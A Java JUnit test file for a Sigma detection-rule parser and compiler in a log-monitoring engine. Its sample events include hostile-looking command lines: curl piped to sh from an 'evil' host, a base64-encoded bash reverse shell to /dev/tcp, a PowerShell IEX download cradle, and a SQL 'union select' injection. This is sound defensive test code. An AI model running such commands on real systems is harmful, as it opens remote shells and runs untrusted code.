package io.vigil.detection.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.common.LogEvent;
import io.vigil.common.Severity;
import io.vigil.detection.Fixtures;
import io.vigil.detection.parse.RuleError;
import io.vigil.detection.parse.RuleParser;
import io.vigil.detection.rule.Rule;
import io.vigil.detection.rule.RuleKind;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Sigma files compiled through rules/sigma/field-mapping.yml into Vigil rules, and run against events. */
class SigmaParserTest {
    private static FieldMapping mapping;

    @BeforeAll
    static void loadMapping() throws Exception {
        mapping = FieldMapping.load(Path.of("..", "rules", "sigma", FieldMapping.FILE_NAME));
    }

    private static List<Rule> compile(String yaml) {
        List<Rule> rules = new ArrayList<>();
        RuleParser.Parsed parsed = SigmaParser.parseAll("s.yml", yaml, mapping, rules);
        assertThat(parsed.errors()).as("errors").isEmpty();
        return rules;
    }

    private static List<RuleError> errors(String yaml) {
        return SigmaParser.parseAll("s.yml", yaml, mapping, new ArrayList<>()).errors();
    }

    /** The message of the one error the file has: fails if it has none, or more than one. */
    private static String onlyError(String yaml) {
        List<RuleError> errors = errors(yaml);
        assertThat(errors).hasSize(1);
        return errors.get(0).message();
    }

    /** A process_creation rule on linux with the given detection lines (indented two spaces). */
    private static Rule process(String detection) {
        return compile("title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
                        + detection)
                .get(0);
    }

    private static LogEvent commandLine(String line) {
        return Fixtures.event(0, "h", Map.of("process.command_line", line, "user.name", "bob"));
    }

    /** Whether the rule fires on a process started with this command line (by bob, on host h). */
    private static boolean matches(Rule rule, String commandLine) {
        return rule.condition().test(commandLine(commandLine));
    }

    /** Whether the rule fires on an event with these fields (on host h). */
    private static boolean matches(Rule rule, Map<String, Object> fields) {
        return rule.condition().test(Fixtures.event(0, "h", fields));
    }

    /** An auditd SYSCALL record of an execve (syscall 59) of this executable (on host h). */
    private static Map<String, Object> execve(String executable) {
        return Map.of("auditd.type", "SYSCALL", "process.executable", executable, "auditd.syscall", "59");
    }

    private static LogEvent message(String text, Map<String, Object> fields) {
        LogEvent e = Fixtures.event(0, "h", fields);
        e.message = text;
        return e;
    }

    @Nested
    class Rules {
        @Test
        void levelsMapOntoSeverities() {
            Map<String, Severity> expected = Map.of(
                    "informational",
                    Severity.LOW,
                    "low",
                    Severity.LOW,
                    "medium",
                    Severity.MEDIUM,
                    "high",
                    Severity.HIGH,
                    "critical",
                    Severity.CRITICAL);
            expected.forEach((level, severity) -> assertThat(compile("title: T\nid: t\nlevel: " + level
                                    + "\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n")
                            .get(0)
                            .severity())
                    .isEqualTo(severity));
            assertThat(
                            errors(
                                    "title: T\nlevel: severe\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n"))
                    .extracting(RuleError::toString)
                    .containsExactly("s.yml:2: level 'severe' must be informational, low, medium, high or critical");
        }

        @Test
        void aSigmaRuleIsAMatchRuleWithItsUuidTagsAndStatus() {
            Rule rule = compile(
                            "title: T\nid: 3C2EA4D4-7f1c-4b0a-9a51-2f6a1d9b2c01\nstatus: deprecated\ntags: [attack.T1110]\n"
                                    + "logsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\nfalsepositives: [none]\nauthor: me\n")
                    .get(0);
            assertThat(rule.id()).isEqualTo("3c2ea4d4-7f1c-4b0a-9a51-2f6a1d9b2c01");
            assertThat(rule.kind()).isEqualTo(RuleKind.MATCH);
            assertThat(rule.tags()).containsExactly("attack.t1110");
            assertThat(rule.enabled())
                    .as("deprecated rules are catalogued, not run")
                    .isFalse();
        }

        @Test
        void keywordsSearchMessageAndAnyMatches() {
            Rule rule = compile(
                            "title: T\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password', 'Invalid user']\n  condition: k\n")
                    .get(0);
            assertThat(rule.condition().test(message("sshd: Invalid user admin from 1.2.3.4", Map.of())))
                    .isTrue();
            assertThat(rule.condition().test(message("sshd: Accepted password for bob", Map.of())))
                    .isFalse();
        }

        @Test
        void mapsAreAndListsAreOrNullIsAbsent() {
            Rule rule = process(
                    "  s:\n    CommandLine|contains: [curl, wget]\n    User: [root, admin]\n  no_pid:\n    ProcessId: null\n  condition: s and no_pid\n");
            assertThat(matches(rule, Map.of("process.command_line", "wget x", "user.name", "admin")))
                    .isTrue();
            assertThat(matches(rule, Map.of("process.command_line", "wget x", "user.name", "bob")))
                    .isFalse();
            assertThat(matches(rule, Map.of("process.command_line", "wget x", "user.name", "root", "process.pid", 4L)))
                    .as("null means absent, and this event has a ProcessId")
                    .isFalse();
        }

        @Test
        void aListOfMapsIsAnyOfThem() {
            Rule rule = process(
                    "  s:\n    - {Image|endswith: /curl}\n    - {CommandLine|startswith: 'python -c'}\n  condition: s\n");
            assertThat(matches(rule, Map.of("process.executable", "/usr/bin/curl")))
                    .isTrue();
            assertThat(matches(rule, "python -c 'print(1)'")).isTrue();
            assertThat(matches(rule, "python x.py")).isFalse();
        }

        @Test
        void wildcardsStayWildcardsInsideContainsAndCanBeEscaped() {
            Rule rule = process(
                    "  s: {CommandLine|contains: 'curl *| sh'}\n  e: {CommandLine|endswith: 'x\\*'}\n  condition: s or e\n");
            assertThat(matches(rule, "sudo curl http://evil | sh -s")).isTrue();
            assertThat(matches(rule, "ls x*")).isTrue();
            assertThat(matches(rule, "ls xy")).isFalse();
        }

        @Test
        void conditionsWithQuantifiersAndParentheses() {
            Rule rule = process(
                    "  sel_a: {CommandLine|contains: a1}\n  sel_b: {CommandLine|contains: b2}\n  filter: {User: root}\n"
                            + "  condition: all of sel_* and not (filter)\n");
            assertThat(matches(rule, "a1 b2")).isTrue();
            assertThat(matches(rule, "a1")).isFalse();
        }
    }

    @Nested
    class Errors {
        @Test
        void anUnmappableFieldIsReportedWithItsLine() {
            assertThat(errors("title: T\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n"
                            + "    CommandLine|contains: x\n    CurrentDirectory|startswith: /tmp\n  condition: s\n"))
                    .extracting(RuleError::toString)
                    .singleElement()
                    .asString()
                    .startsWith(
                            "s.yml:6: unmapped field 'CurrentDirectory' for product=linux category=process_creation");
        }

        @Test
        void aFieldOnlyInMessageNeedsContainsOrRe(@TempDir Path dir) throws Exception {
            Path file = Files.writeString(
                    dir.resolve(FieldMapping.FILE_NAME), "category:\n  webserver:\n    cs-uri-query: message\n");
            assertThat(SigmaParser.parseAll(
                                    "s.yml",
                                    "title: T\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-query: '/x'}\n  condition: s\n",
                                    FieldMapping.load(file),
                                    new ArrayList<>())
                            .errors())
                    .extracting(RuleError::toString)
                    .singleElement()
                    .asString()
                    .contains("s.yml:4: field 'cs-uri-query' is only searchable in message");
        }

        @Test
        void aggregationsWithoutTimeframeOtherAggregationsAndUnknownModifiersAreReported() {
            assertThat(
                            errors(
                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k | count() by host > 5\n"))
                    .extracting(RuleError::message)
                    .containsExactly("the aggregation '| count() ...' needs a timeframe beside it");
            assertThat(
                            errors(
                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  timeframe: 5m\n  condition: k | max(x) > 5\n"))
                    .extracting(RuleError::line)
                    .containsExactly(6);
            assertThat(
                            errors(
                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|frob: x}\n  condition: k\n"))
                    .extracting(RuleError::toString)
                    .singleElement()
                    .asString()
                    .startsWith("s.yml:4: unknown modifier 'frob'");
            assertThat(
                            errors(
                                    "title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|contains|i: x}\n  condition: k\n"))
                    .as("regex flags only after re")
                    .hasSize(1);
        }
    }

    @Nested
    class Modifiers {
        private String b64(String text) {
            return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
        }

        @Test
        void legacyCountAggregationsBecomeCountRules() {
            Rule events = compile(
                            "title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password']\n"
                                    + "  timeframe: 10m\n  condition: k | count() by SourceIp > 5\n")
                    .get(0);
            assertThat(events.kind()).isEqualTo(RuleKind.COUNT);
            assertThat(events.groupBy()).containsExactly("source.address");
            assertThat(events.count().min()).isEqualTo(6);
            assertThat(events.count().within()).hasMinutes(10);
            assertThat(events.condition().test(message("Failed password for x", Map.of())))
                    .isTrue();
            Rule users = compile(
                            "title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password']\n"
                                    + "  timeframe: 1h\n  condition: k | count(User) < 3\n")
                    .get(0);
            assertThat(users.groupBy()).containsExactly("host");
            assertThat(users.count().distinctField()).isEqualTo("user.name");
            assertThat(users.count().max()).isEqualTo(2);
        }

        @Test
        void windashMayFollowTheComparisonAsSigmaHqWritesIt() {
            Rule rule = process("  s: {CommandLine|contains|windash: ' -r '}\n  condition: s\n");
            assertThat(matches(rule, "getcap /r /usr")).isTrue();
            assertThat(matches(rule, "getcap -r /usr")).isTrue();
            assertThat(matches(rule, "getcap /usr")).isFalse();
        }

        @Test
        void imageIsTheProgramsPathSoDirectoryTestsWork() {
            Rule tmp = process("  s: {Image|startswith: '/tmp/'}\n  condition: s\n");
            assertThat(matches(tmp, Map.of("process.executable", "/tmp/x", "process.name", "x")))
                    .isTrue();
            assertThat(matches(tmp, Map.of("process.executable", "/usr/bin/x", "process.name", "x")))
                    .isFalse();
            Rule python = process("  s: {Image|contains: '/python'}\n  condition: s\n");
            assertThat(matches(python, Map.of("process.executable", "/usr/bin/python3")))
                    .isTrue();
        }

        @Test
        void imageIsAPathButProcessNameOnlyTheProgramsName(@TempDir Path dir) throws Exception {
            // a source that sends only the program's name: the mapping says basename(process.name)
            FieldMapping names = FieldMapping.load(
                    Files.writeString(
                            dir.resolve(FieldMapping.FILE_NAME),
                            "category:\n  process_creation:\n    Image: basename(process.name)\n    CommandLine: process.command_line\n"));
            java.util.function.Function<String, Rule> process = detection -> {
                List<Rule> rules = new ArrayList<>();
                assertThat(SigmaParser.parseAll(
                                        "s.yml",
                                        "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\n"
                                                + "detection:\n" + detection,
                                        names,
                                        rules)
                                .errors())
                        .isEmpty();
                return rules.get(0);
            };
            Rule rule = process.apply(
                    "  s: {Image|endswith: ['/curl', 'wget'], CommandLine|contains: x}\n  condition: s\n");
            assertThat(matches(rule, Map.of("process.name", "curl", "process.command_line", "x")))
                    .isTrue();
            assertThat(matches(rule, Map.of("process.name", "libcurl", "process.command_line", "x")))
                    .as("'/curl' ends the path, so it is the whole name")
                    .isFalse();
            assertThat(matches(rule, Map.of("process.name", "mywget", "process.command_line", "x")))
                    .isTrue();
            Rule exact = process.apply("  s: {Image: '/usr/bin/dd'}\n  condition: s\n");
            assertThat(matches(exact, Map.of("process.name", "dd"))).isTrue();
            assertThat(SigmaParser.parseAll(
                                    "s.yml",
                                    "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
                                            + "  s: {Image|startswith: '/tmp/'}\n  condition: s\n",
                                    names,
                                    new ArrayList<>())
                            .errors())
                    .extracting(RuleError::message)
                    .singleElement()
                    .asString()
                    .contains("holds only the program's name");
        }

        @Test
        void base64MatchesTheEncodedValueCaseSensitively() {
            Rule rule = process("  s: {CommandLine|base64|contains: 'bash -i'}\n  condition: s\n");
            assertThat(matches(rule, "echo " + b64("bash -i") + " | base64 -d")).isTrue();
            assertThat(matches(rule, "echo " + b64("bash -i").toLowerCase() + " | base64 -d"))
                    .isFalse();
        }

        @Test
        void base64offsetFindsTheValueAtEveryOffset() {
            Rule rule = process("  s: {CommandLine|base64offset|contains: '/dev/tcp/'}\n  condition: s\n");
            for (String prefix : List.of("", "a", "ab", "abc", "abcd")) {
                assertThat(matches(rule, "x " + b64(prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1")))
                        .as("offset %d", prefix.length())
                        .isTrue();
            }
            assertThat(matches(rule, "x " + b64("bash -i >& /dev/udp/1.2.3.4/1")))
                    .isFalse();
        }

        @Test
        void wideThenBase64IsPowerShellsEncodedCommand() {
            Rule rule = process("  s: {CommandLine|wide|base64offset|contains: 'IEX'}\n  condition: s\n");
            String encoded = Base64.getEncoder()
                    .encodeToString("$x; IEX (New-Object Net.WebClient)".getBytes(StandardCharsets.UTF_16LE));
            assertThat(matches(rule, "pwsh -enc " + encoded)).isTrue();
            assertThat(matches(rule, "pwsh -enc " + b64("$x; IEX (New-Object Net.WebClient)")))
                    .isFalse();
        }

        @Test
        void utf16VariantsEncodeTheValue() {
            String value = "ab";
            assertThat(matches(
                            process("  s: {CommandLine|utf16le|contains: ab}\n  condition: s\n"),
                            new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))
                    .isTrue();
            assertThat(matches(
                            process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n"),
                            new String(value.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1)))
                    .isTrue();
            assertThat(matches(
                            process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n"),
                            new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))
                    .isFalse();
            assertThat(matches(
                            process("  s: {CommandLine|utf16|base64|contains: ab}\n  condition: s\n"),
                            Base64.getEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0, 'b', 0})))
                    .isTrue();
        }

        @Test
        void windashAcceptsEveryDashForAnOption() {
            Rule rule = process("  s: {CommandLine|windash|contains: ' -f '}\n  condition: s\n");
            for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
                assertThat(matches(rule, "tool " + dash + "f x")).as(dash).isTrue();
            }
            assertThat(matches(rule, "tool +f x")).isFalse();
        }

        @Test
        void casedComparesCaseSensitively() {
            Rule rule = process("  s: {CommandLine|cased|contains: 'AutoRun'}\n  condition: s\n");
            assertThat(matches(rule, "reg add AutoRun")).isTrue();
            assertThat(matches(rule, "reg add autorun")).isFalse();
            Rule plain = process("  s: {CommandLine|contains: 'AutoRun'}\n  condition: s\n");
            assertThat(matches(plain, "reg add autorun")).isTrue();
        }

        @Test
        void fieldrefComparesTwoFieldsOfTheEvent() {
            Rule rule = compile(
                            "title: T\nlogsource: {product: linux}\ndetection:\n  s: {User|fieldref: TargetUser}\n  condition: s\n")
                    .get(0);
            assertThat(matches(rule, Map.of("user.name", "root", "user.target.name", "ROOT")))
                    .isTrue();
            assertThat(matches(rule, Map.of("user.name", "bob", "user.target.name", "root")))
                    .isFalse();
            assertThat(matches(rule, Map.of("user.name", "bob"))).isFalse();
        }

        @Test
        void regexFlags() {
            assertThat(matches(process("  s: {CommandLine|re: 'CURL'}\n  condition: s\n"), "curl x"))
                    .isFalse();
            assertThat(matches(process("  s: {CommandLine|re|i: 'CURL'}\n  condition: s\n"), "curl x"))
                    .isTrue();
            assertThat(matches(process("  s: {CommandLine|re: '^b$'}\n  condition: s\n"), "a\nb\nc"))
                    .isFalse();
            assertThat(matches(process("  s: {CommandLine|re|m: '^b$'}\n  condition: s\n"), "a\nb\nc"))
                    .isTrue();
            assertThat(matches(process("  s: {CommandLine|re: 'a.b'}\n  condition: s\n"), "a\nb"))
                    .isFalse();
            assertThat(matches(process("  s: {CommandLine|re|s: 'a.b'}\n  condition: s\n"), "a\nb"))
                    .isTrue();
        }

        @Test
        void aRequestPartIsItsFieldWhenParsedElseContainsSearchesTheRawLine() {
            Rule rule = compile("title: T\nlogsource: {category: webserver}\ndetection:\n"
                            + "  s: {cs-uri-query|contains: 'union select'}\n  condition: s\n")
                    .get(0);
            assertThat(matches(rule, Map.of("url.query", "id=1 union select 2")))
                    .isTrue();
            assertThat(rule.condition().test(message("GET /?id=1 union select 2 HTTP/1.1", Map.of())))
                    .as("raw line")
                    .isTrue();
            assertThat(rule.condition().test(message("GET /x HTTP/1.1 \"union select\"", Map.of("url.query", "a=1"))))
                    .as("a parsed event is tested on its query alone")
                    .isFalse();
            Rule exact = compile(
                            "title: T\nlogsource: {category: webserver}\ndetection:\n"
                                    + "  s: {cs-method: POST, sc-status: 200, cs-uri-stem|endswith: '/wsman'}\n  condition: s\n")
                    .get(0);
            assertThat(matches(
                            exact,
                            Map.of(
                                    "http.request.method",
                                    "POST",
                                    "http.response.status_code",
                                    200L,
                                    "url.path",
                                    "/x/wsman")))
                    .isTrue();
            assertThat(exact.condition()
                            .test(message(
                                    "POST /x/wsman 200",
                                    Map.of("http.request.method", "POST", "http.response.status_code", 200L))))
                    .as("endswith is never searched in the raw line")
                    .isFalse();
        }

        @Test
        void auditdArgumentsMatchAtAnyPositionAndExeIsTheWholePath() {
            Rule rule = compile("title: T\nlogsource: {product: linux, service: auditd}\ndetection:\n"
                            + "  s: {type: EXECVE, a0: chmod, a1: '777'}\n  sys: {type: SYSCALL, exe|endswith: '/useradd', syscall: 59}\n"
                            + "  condition: s or sys\n")
                    .get(0);
            assertThat(matches(rule, Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "777", "/x"))))
                    .isTrue();
            assertThat(matches(rule, Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "644"))))
                    .isFalse();
            assertThat(matches(rule, execve("/usr/sbin/useradd"))).isTrue();
            assertThat(matches(rule, execve("/tmp/useradd2"))).isFalse();
        }

        @Test
        void comparisonsCidrAndExists() {
            Rule rule = compile(
                            "title: T\nlogsource: {category: network_connection}\ndetection:\n"
                                    + "  s: {DestinationPort|gte: 1024, DestinationIp|cidr: '203.0.113.0/24', User|exists: true}\n  condition: s\n")
                    .get(0);
            assertThat(matches(
                            rule, Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5", "user.name", "a")))
                    .isTrue();
            assertThat(matches(
                            rule, Map.of("destination.port", 443L, "destination.ip", "203.0.113.5", "user.name", "a")))
                    .isFalse();
            assertThat(matches(rule, Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5")))
                    .isFalse();
        }
    }

    @Nested
    class Correlations {
        private static final String BASE =
                "title: Fail\nname: fail\nid: base-rule\nlogsource: {product: linux, service: sshd}\n"
                        + "detection:\n  k: ['Failed password']\n  condition: k\n---\n";

        @Test
        void eventCountBecomesACountRuleOverTheNamedRule() {
            List<Rule> rules =
                    compile(BASE + "title: Burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [fail]\n"
                            + "  group-by: [SourceIp]\n  timespan: 5m\n  condition: {gt: 9}\nlevel: high\n");
            Rule burst = rules.get(1);
            assertThat(burst.kind()).isEqualTo(RuleKind.COUNT);
            assertThat(burst.groupBy()).containsExactly("source.address");
            assertThat(burst.count().min()).isEqualTo(10);
            assertThat(burst.count().within()).hasMinutes(5);
            assertThat(burst.condition().test(message("Failed password for x", Map.of())))
                    .isTrue();
            assertThat(rules.get(0).enabled())
                    .as("referenced rules do not alert alone")
                    .isFalse();
        }

        @Test
        void generateKeepsTheReferencedRuleRunning() {
            List<Rule> rules = compile(
                    BASE + "title: Burst\ncorrelation:\n  type: event_count\n  rules: [base-rule]\n  generate: true\n"
                            + "  timespan: 5m\n  condition: {gte: 3}\n");
            assertThat(rules.get(0).enabled()).isTrue();
            assertThat(rules.get(1).groupBy()).containsExactly("host");
        }

        @Test
        void valueCountCountsDistinctMappedValues() {
            Rule rule = compile(BASE
                            + "title: Spray\ncorrelation:\n  type: value_count\n  rules: [fail]\n  group-by: [SourceIp]\n"
                            + "  timespan: 10m\n  condition: {field: User, gte: 5}\n")
                    .get(1);
            assertThat(rule.count().distinctField()).isEqualTo("user.name");
            assertThat(rule.count().min()).isEqualTo(5);
        }

        @Test
        void temporalOrderedBecomesASequence() {
            Rule rule = compile(BASE + "title: Ok\nname: ok\nlogsource: {product: linux, service: sshd}\ndetection:\n"
                            + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Then\ncorrelation:\n  type: temporal_ordered\n"
                            + "  rules: [fail, ok]\n  group-by: [SourceIp]\n  timespan: 10m\n")
                    .get(2);
            assertThat(rule.kind()).isEqualTo(RuleKind.SEQUENCE);
            assertThat(rule.sequence().steps()).hasSize(2);
            assertThat(rule.sequence().steps().get(1).condition().test(message("Accepted password for a", Map.of())))
                    .isTrue();
        }

        private Rule counted(String condition) {
            return compile(BASE
                            + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: "
                            + condition + "\n")
                    .get(1);
        }

        @Test
        void lowerBoundsFireEarlyUpperBoundsWaitForTheWindowToClose() {
            assertThat(counted("{gt: 4}").count()).satisfies(c -> {
                assertThat(c.min()).isEqualTo(5);
                assertThat(c.decidedAtWindowEnd()).isFalse();
            });
            assertThat(counted("{lt: 3}").count()).satisfies(c -> {
                assertThat(c.min()).as("a window holds at least one event").isEqualTo(1);
                assertThat(c.max()).isEqualTo(2);
                assertThat(c.decidedAtWindowEnd()).isTrue();
            });
            assertThat(counted("{lte: 3}").count().max()).isEqualTo(3);
            assertThat(counted("{eq: 4}").count())
                    .satisfies(c -> assertThat(List.of(c.min(), c.max())).containsExactly(4, 4));
            assertThat(counted("{gte: 2, lte: 5}").count()).satisfies(c -> {
                assertThat(List.of(c.min(), c.max())).containsExactly(2, 5);
                assertThat(c.accepts(5)).isTrue();
                assertThat(c.accepts(6)).isFalse();
            });
        }

        @Test
        void aCorrelationOfNoRulesIsAnErrorAtItsLineNotACrash() {
            assertThat(errors(BASE + "title: C\ncorrelation:\n  type: event_count\n  rules: []\n  timespan: 5m\n"
                            + "  condition: {gte: 3}\n"))
                    .singleElement()
                    .satisfies(e -> {
                        assertThat(e.line()).as("the line of rules: []").isEqualTo(12);
                        assertThat(e.message()).contains("names no rule");
                    });
        }

        @Test
        void impossibleOrConflictingConditionsAreReported() {
            String head = BASE
                    + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: ";
            assertThat(onlyError(head + "{lt: 1}\n")).contains("can never be met");
            assertThat(onlyError(head + "{gt: 5, lt: 6}\n")).contains("can never be met");
            assertThat(onlyError(head + "{gt: 1, gte: 2}\n")).contains("conflicts with 'gt'");
            assertThat(onlyError(head + "{eq: 2, lte: 3}\n")).contains("conflicts with 'eq'");
            assertThat(onlyError(head + "{field: User}\n")).contains("needs gte, gt, eq, lt or lte");
        }

        @Test
        void temporalCountsTheReferencedRulesMetInAnyOrder() {
            Rule rule = compile(BASE + "title: Ok\nname: ok\nlogsource: {product: linux, service: sshd}\ndetection:\n"
                            + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Both\ncorrelation:\n  type: temporal\n"
                            + "  rules: [ok, fail]\n  group-by: [SourceIp]\n  timespan: 10m\n")
                    .get(2);
            assertThat(rule.kind()).isEqualTo(RuleKind.COUNT);
            assertThat(rule.groupBy()).containsExactly("source.address");
            assertThat(rule.count().parts()).hasSize(2);
            assertThat(rule.count().min()).isEqualTo(2);
            assertThat(rule.count().parts().get(0).test(message("Accepted password for a", Map.of())))
                    .isTrue();
            assertThat(rule.count().parts().get(1).test(message("Accepted password for a", Map.of())))
                    .isFalse();
        }

        @Test
        void aReferenceToNoRuleIsReported() {
            assertThat(
                            errors(
                                    BASE
                                            + "title: X\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: {gte: 2}\n"))
                    .extracting(RuleError::line)
                    .containsExactly(12);
        }
    }

    @Nested
    class Escapes {
        @Test
        void backslashEscapesWildcardsAndItself() {
            Rule star = process("  s: {CommandLine: 'a\\*'}\n  condition: s\n");
            assertThat(matches(star, "a*")).isTrue();
            assertThat(matches(star, "ab")).isFalse();
            Rule question = process("  s: {CommandLine|endswith: 'why\\?'}\n  condition: s\n");
            assertThat(matches(question, "echo why?")).isTrue();
            assertThat(matches(question, "echo whyX")).isFalse();
            // \\* is a backslash, then a wildcard (a glob would read a backslash, then a literal '*')
            Rule backslashThenWildcard = process("  s: {CommandLine|startswith: 'C:\\\\*.exe'}\n  condition: s\n");
            assertThat(matches(backslashThenWildcard, "C:\\tool.exe /x")).isTrue();
            assertThat(matches(backslashThenWildcard, "C:tool.exe /x")).isFalse();
        }

        @Test
        void aBackslashBeforeAnythingElseIsItself() {
            Rule path = process("  s: {CommandLine|contains: 'C:\\Windows\\System32\\'}\n  condition: s\n");
            assertThat(matches(path, "run C:\\Windows\\System32\\cmd.exe")).isTrue();
            Rule doubled = process("  s: {CommandLine: 'a\\\\b'}\n  condition: s\n");
            assertThat(matches(doubled, "a\\b")).isTrue();
            assertThat(matches(doubled, "a\\\\b")).isFalse();
        }
    }

    @Nested
    class Expand {
        private final Placeholders placeholders =
                Placeholders.of(Map.of("admin_users", List.of("root", "admin"), "dirs", List.of("/tmp", "/dev/shm")));

        private List<RuleError> expandErrors(String detection, List<Rule> out) {
            return SigmaParser.parseAll(
                            "s.yml",
                            "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\n"
                                    + "detection:\n" + detection,
                            mapping,
                            placeholders,
                            out)
                    .errors();
        }

        @Test
        void aPlaceholderStandsForAnyOfItsValues() {
            List<Rule> rules = new ArrayList<>();
            assertThat(expandErrors(
                            "  s: {User|expand: '%admin_users%', CommandLine|expand|startswith: '%dirs%/'}\n  condition: s\n",
                            rules))
                    .isEmpty();
            Rule rule = rules.get(0);
            assertThat(matches(rule, Map.of("user.name", "admin", "process.command_line", "/dev/shm/x")))
                    .isTrue();
            assertThat(matches(rule, Map.of("user.name", "root", "process.command_line", "/tmp/x")))
                    .isTrue();
            assertThat(matches(rule, Map.of("user.name", "bob", "process.command_line", "/tmp/x")))
                    .isFalse();
            assertThat(matches(rule, Map.of("user.name", "root", "process.command_line", "/var/x")))
                    .isFalse();
        }

        @Test
        void anUndefinedPlaceholderIsACompileErrorOnItsLine() {
            assertThat(expandErrors("  s:\n    User|expand: '%domain_admins%'\n  condition: s\n", new ArrayList<>()))
                    .singleElement()
                    .satisfies(e -> {
                        assertThat(e.line()).isEqualTo(6);
                        assertThat(e.message()).contains("placeholder '%domain_admins%' is not defined");
                    });
        }

        @Test
        void theShippedPlaceholderFileLoads() throws Exception {
            Placeholders shipped = Placeholders.load(Path.of("..", "rules", "sigma", Placeholders.FILE_NAME));
            assertThat(shipped.expand("%admin_users%", 1)).isNotEmpty();
        }
    }

    @Test
    void everySigmaRuleShippedInRulesSigmaCompiles() {
        SigmaCheck.Report report = SigmaCheck.run(Path.of("..", "rules", "sigma"));
        Map<String, String> failures = new HashMap<>();
        report.outcomes().stream()
                .filter(o -> !o.compiled())
                .forEach(o -> failures.put(o.file().toString(), o.firstError().toString()));
        assertThat(failures).isEmpty();
        assertThat(report.outcomes()).hasSizeGreaterThanOrEqualTo(7);
    }
}
